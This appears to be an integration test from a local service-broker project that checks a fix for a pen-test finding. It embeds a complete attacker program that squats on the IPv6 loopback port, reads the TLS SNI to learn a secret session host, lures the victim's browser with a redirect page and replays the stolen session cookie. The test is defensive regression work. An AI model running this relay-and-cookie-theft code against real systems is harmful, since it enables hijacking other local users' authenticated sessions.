/**
 * Pen test 2 (SES-1, LOC-4, LOC-5): a `--tunnel none` HTTPS service on the broker host is held on
 * 127.0.0.1 only — `broker run --tunnel none` listens on the registered host, the README's SDK
 * example listens on '127.0.0.1' — but its URL is `https://NAME.OWNER.localhost:PORT/`, and
 * Chromium resolves every `*.localhost` name to ::1 *first*. Another local user binds [::1]:PORT
 * (nothing holds it; neither `ready` nor the tunnel-"none" watch looks at ::1) and relays it to
 * 127.0.0.1:PORT: every connection of the owner's browser to the service now passes through her.
 * She cannot read TLS, but the ClientHello's SNI is plain text, so she learns the login's
 * "secret" session host `s<128 bits>.NAME.OWNER.localhost` — the one thing SES-1's fix relies on
 * her never knowing. Then the original attack works again: any page of hers the owner opens
 * sends the browser to `http://<session host>:<her port>/`; one same-site hop later Chromium sends
 * the `__Host-broker_session` cookie there (a Secure cookie goes to http://*.localhost, and
 * SameSite=Strict is satisfied by her own page on that host), and she uses the session.
 *
 * Real daemon, real `broker run` and `broker open` as bt-alice, Debian's Chromium trusting the
 * broker CA through its NSS database, bt-mallory as a real second Unix user.
 */
import { execFile, type ChildProcess } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, Daemon, recordSecrets } from '../helpers/daemon.js';
import { killAs, noUsersReason, spawnAs, spawnNodeAs, unixUser } from '../helpers/users.js';
import { until } from '../helpers/wait.js';

const run = promisify(execFile);
const CHROMIUM = '/usr/bin/chromium';
const reason =
  noUsersReason ??
  (!existsSync(CHROMIUM)
    ? `${CHROMIUM} is missing`
    : !existsSync('/usr/bin/certutil')
      ? 'certutil is missing (libnss3-tools)'
      : null);
if (reason) console.warn(`SKIPPED attack2 session host over ::1: ${reason}`);

const SECRET_PAGE = 'alice-private-notes-7f3a';

/** alice's app: a plain HTTP server on the private socket broker run gives it. */
const APP = `import { createServer } from 'node:http';
createServer((req, res) => res.end(${JSON.stringify(SECRET_PAGE)} + ' ' + req.url)).listen(process.argv[2]);`;

/**
 * mallory's one program: [::1]:PORT relayed to 127.0.0.1:PORT (logging each ClientHello's SNI),
 * and a plain-HTTP page server on QPORT (127.0.0.1 and ::1) that sends a visitor to the session
 * host she learned, collects the cookie there and uses it against the service.
 */
const MALLORY = `import net from 'node:net';
import http from 'node:http';
import https from 'node:https';
import { readFileSync } from 'node:fs';
const PORT = Number(process.env.PORT);
const CA = readFileSync(process.env.CA_FILE, 'utf8');
const say = (o) => console.log(JSON.stringify(o));
let sessionHost = null;

function sni(buf) {
  try {
    if (buf[0] !== 0x16 || buf[5] !== 0x01) return null;
    let p = 9 + 2 + 32;
    p += 1 + buf[p];
    p += 2 + buf.readUInt16BE(p);
    p += 1 + buf[p];
    const end = p + 2 + buf.readUInt16BE(p);
    p += 2;
    while (p + 4 <= end) {
      const type = buf.readUInt16BE(p), len = buf.readUInt16BE(p + 2);
      if (type === 0) return buf.subarray(p + 9, p + 9 + buf.readUInt16BE(p + 7)).toString();
      p += 4 + len;
    }
  } catch {}
  return null;
}

const relay = net.createServer((c) => {
  let first = Buffer.alloc(0);
  let up = null;
  c.on('error', () => {});
  c.on('data', (d) => {
    if (up) return void up.write(d);
    first = Buffer.concat([first, d]);
    if (first.length < 5 || first.length < 5 + first.readUInt16BE(3)) return;
    const name = sni(first);
    say({ sni: name });
    if (name && /^s[0-9a-f]{32}\\./.test(name)) sessionHost = name;
    up = net.connect(PORT, '127.0.0.1');
    up.on('error', () => c.destroy());
    c.on('close', () => up.destroy());
    up.on('close', () => c.destroy());
    up.write(first);
    up.pipe(c);
  });
});
relay.listen({ port: PORT, host: '::1', ipv6Only: true }, () => say({ relay: PORT }));
relay.on('error', (e) => say({ relayError: e.code }));

function steal(cookie) {
  const req = https.request({ host: '127.0.0.1', port: PORT, servername: sessionHost, ca: CA,
      path: '/mallory-was-here', headers: { host: sessionHost + ':' + PORT, cookie } }, (res) => {
    let body = '';
    res.on('data', (c) => (body += c));
    res.on('end', () => say({ replay: res.statusCode, body }));
  });
  req.on('error', (e) => say({ replayError: e.message }));
  req.end();
}

const pages = http.createServer((req, res) => {
  res.setHeader('Content-Type', 'text/html');
  const q = pages.address().port;
  if (req.url === '/') {
    say({ visitor: req.headers.host, sessionHost });
    return res.end('<!doctype html><title>cat pictures</title><script>location.href = ' +
      JSON.stringify('http://' + sessionHost + ':' + q + '/hop') + '</script>');
  }
  if (req.url === '/hop') return res.end('<!doctype html><script>location.href = "/collect"</script>');
  if (req.url === '/collect') {
    const cookie = req.headers.cookie ?? '';
    say({ collected: /__Host-broker_session=/.test(cookie) });
    if (cookie) steal(cookie);
    return res.end('<!doctype html><title>meow</title>');
  }
  res.end('');
});
pages.listen(0, '127.0.0.1', () => {
  const q = pages.address().port;
  net.createServer((c) => pages.emit('connection', c))
    .on('error', () => {})
    .listen({ port: q, host: '::1', ipv6Only: true }, () => say({ pages: q }));
});
`;

describe.skipIf(reason !== null)(
  'attack2: a --tunnel none HTTPS service, its [::1] twin, and the session host on the wire',
  () => {
    let d: Daemon;
    let context: BrowserContext;
    const dirs: string[] = [];
    const children: ChildProcess[] = [];
    const out = new Map<ChildProcess, string>();
    const started = (p: ChildProcess) => {
      children.push(p);
      out.set(p, '');
      p.stdout?.on('data', (c: Buffer) => out.set(p, out.get(p)! + c.toString()));
      p.stderr?.on('data', (c: Buffer) => out.set(p, out.get(p)! + c.toString()));
      return p;
    };
    const lines = (p: ChildProcess) =>
      out
        .get(p)!
        .split('\n')
        .filter((l) => l.startsWith('{'))
        .map((l) => JSON.parse(l) as Record<string, unknown>);

    afterAll(async () => {
      await context?.close().catch(() => undefined);
      for (const c of children) killAs(c, 'SIGTERM');
      await new Promise((r) => setTimeout(r, 500));
      for (const c of children) killAs(c, 'SIGKILL');
      await d?.stop();
      for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
    }, 30_000);

    beforeAll(async () => {
      d = await Daemon.start();
    });

    it('fail/SES-1 mallory cannot relay the browser on [::1] (broker run holds it), learns no session host, and her page gets no session', async () => {
      const alice = unixUser('bt-alice');
      const mallory = unixUser('bt-mallory');
      const aliceToken = await d.addUser('bt-alice');

      // alice's home with her credentials, and her app.
      const home = mkdtempSync('/tmp/bt2-');
      dirs.push(home);
      chmodSync(home, 0o755);
      const cfg = join(home, '.config', 'broker');
      mkdirSync(cfg, { recursive: true, mode: 0o700 });
      writeFileSync(
        join(cfg, 'credentials.json'),
        JSON.stringify({ url: d.url, token: aliceToken, ca: d.ca }),
        { mode: 0o600 },
      );
      writeFileSync(join(home, 'app.mjs'), APP, { mode: 0o644 });
      for (const p of [home, join(home, '.config'), cfg, join(cfg, 'credentials.json')])
        chownSync(p, alice.uid, alice.gid);
      const shared = mkdtempSync(join(tmpdir(), 'bt2-shared-'));
      dirs.push(shared);
      chmodSync(shared, 0o755);
      const caFile = join(shared, 'ca.pem');
      writeFileSync(caFile, d.ca, { mode: 0o644 });
      const aliceEnv = { HOME: home, PATH: `${process.env.PATH}`, LANG: 'C.UTF-8' };

      // alice: an HTTPS service on the broker host, its app on a private socket (the safest
      // documented line), without the SSH tunnel.
      const runP = started(
        spawnAs(
          alice,
          process.execPath,
          [BIN, 'run', 'notes', '--mode', 'https', '--tunnel', 'none', '--'].concat([
            process.execPath,
            join(home, 'app.mjs'),
            '{app_socket}',
          ]),
          { env: aliceEnv, cwd: home },
        ),
      );
      let svc: { status: string; port: number; hostname: string } | undefined;
      await until(
        async () => {
          svc = (await d.api('GET', '/v1/services/bt-alice/notes')).body.service;
          return svc?.status === 'ready';
        },
        30_000,
        `broker run notes: ${out.get(runP)}`,
      );
      const port = svc!.port;

      // mallory, with no broker account at all: her relay on [::1]:PORT and her page server.
      const m = started(
        spawnNodeAs(mallory, MALLORY, { env: { PORT: String(port), CA_FILE: caFile } }),
      );
      await until(
        () =>
          lines(m).some((l) => 'pages' in l) &&
          lines(m).some((l) => 'relay' in l || 'relayError' in l),
        10_000,
        `mallory: ${out.get(m)}`,
      );
      // broker run holds the service's port on both loopback addresses: no twin to take.
      expect(lines(m).find((l) => 'relayError' in l)).toEqual({ relayError: 'EADDRINUSE' });
      const herPort = lines(m).find((l) => 'pages' in l)!.pages as number;

      // alice's browser, which trusts the broker CA (and nothing is ignored).
      const browserHome = mkdtempSync(join(tmpdir(), 'bt2-browser-'));
      dirs.push(browserHome);
      const nssdb = join(browserHome, '.pki', 'nssdb');
      mkdirSync(nssdb, { recursive: true, mode: 0o700 });
      await run('certutil', ['-d', `sql:${nssdb}`, '-N', '--empty-password']);
      await run('certutil', [
        '-d',
        `sql:${nssdb}`,
        '-A',
        '-t',
        'C,,',
        '-n',
        'broker',
        '-i',
        caFile,
      ]);
      const { chromium } = await import('playwright-core');
      context = await chromium.launchPersistentContext(join(browserHome, 'profile'), {
        executablePath: CHROMIUM,
        headless: true,
        args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run'],
        env: { ...process.env, HOME: browserHome },
      });

      // alice logs in with broker open's one-time URL, as the README says.
      const open = started(
        spawnAs(alice, process.execPath, [BIN, 'open', 'notes', '--json'], {
          env: aliceEnv,
          cwd: home,
        }),
      );
      await until(
        () => out.get(open)!.trim().endsWith('}'),
        15_000,
        `broker open: ${out.get(open)}`,
      );
      const url = (JSON.parse(out.get(open)!) as { url: string }).url;
      recordSecrets(url);
      const page = await context.newPage();
      await page.goto(url);
      expect(await page.textContent('body')).toContain(SECRET_PAGE); // she is logged in
      const sessionHost = new URL(page.url()).hostname;
      expect(sessionHost).toMatch(/^s[0-9a-f]{32}\.notes\.bt-alice\.localhost$/);

      // Later alice opens a link of mallory's ("cat pictures", on mallory's own name).
      const lure = await context.newPage();
      await lure.goto(`http://cats.bt-mallory.localhost:${herPort}/`).catch(() => undefined);
      await until(
        () => lines(m).some((l) => 'replay' in l || 'replayError' in l),
        5000,
        'the replay',
      ).catch(() => undefined);

      const seen = lines(m);
      const snis = seen.filter((l) => 'sni' in l).map((l) => l.sni);
      const replay = seen.find((l) => 'replay' in l) as
        { replay: number; body: string } | undefined;
      // LOC-4/LOC-5 containment: the tunnel-"none" watch (every 5 s) checks only 127.0.0.1, 0.0.0.0
      // and ::, so the service stays "ready", its keys alive, with mallory's twin in front of it.
      await new Promise((r) => setTimeout(r, 6000));
      const after = (await d.api('GET', '/v1/services/bt-alice/notes')).body.service as {
        status: string;
      };
      // SES-1: what mallory must never have. Each of these happened before the fix.
      expect
        .soft(replay?.body ?? '', 'mallory read the page with the stolen session')
        .not.toContain(SECRET_PAGE);
      expect
        .soft(
          seen.some((l) => l.collected === true),
          'the session cookie reached her page',
        )
        .toBe(false);
      expect
        .soft(snis, "alice's browser went through mallory's [::1] listener")
        .not.toContain(sessionHost);
      // Nobody squats: the service stays up (test/integration/loopback-twin.test.ts covers a
      // server that holds only 127.0.0.1 and the squat that follows).
      expect.soft(after.status, 'the service, its twin held').toBe('ready');
    }, 120_000);
  },
);
